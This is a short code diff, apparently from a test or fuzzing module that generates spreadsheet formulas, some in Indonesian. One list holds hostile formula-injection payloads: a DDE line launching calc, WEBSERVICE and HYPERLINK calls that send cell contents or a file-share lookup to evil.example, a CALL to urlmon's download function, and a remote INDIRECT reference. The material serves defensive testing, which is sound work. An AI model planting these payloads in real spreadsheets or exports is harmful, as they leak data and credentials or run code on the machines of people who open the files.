@@ -190,7 +190,7 @@ const formulas = [
   "cmd|'/c calc'!A0",
   "calc|a!b",
   'WEBSERVICE("http://evil.example/"&A1)',
-  'HYPERLINK("http://evil.example/?"&A1,"tekan")',
+  'HYPERLINK("file:"&"//evil.example/share","tekan")',
   'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
   'DDE("soffice","a.ods","a")',
   "INDIRECT(\"'[\\\\evil\\a.xlsx]S'!A1\")",
@@ -241,6 +241,7 @@ const formula: Family = {
     "_xlfn.STDEV.S(A2:A3)+SECOND(A2)+PI()+FV(1,2,3)+AGGREGATE(9,5,A2:A9)+RAND()",
     'INDIRECT("Tarif!A"&ROW())+_xlfn.DISPIMG("ID_1",1)',
     'HYPERLINK("https://a.example/tarif","lihat")&HYPERLINK("#Tarif!A1")',
+    'HYPERLINK("https://wa.me/"&B2,"tanya")',
     "SUM('Jan 1:Des 31'!A1)",
   ],
   make(payload, random) {
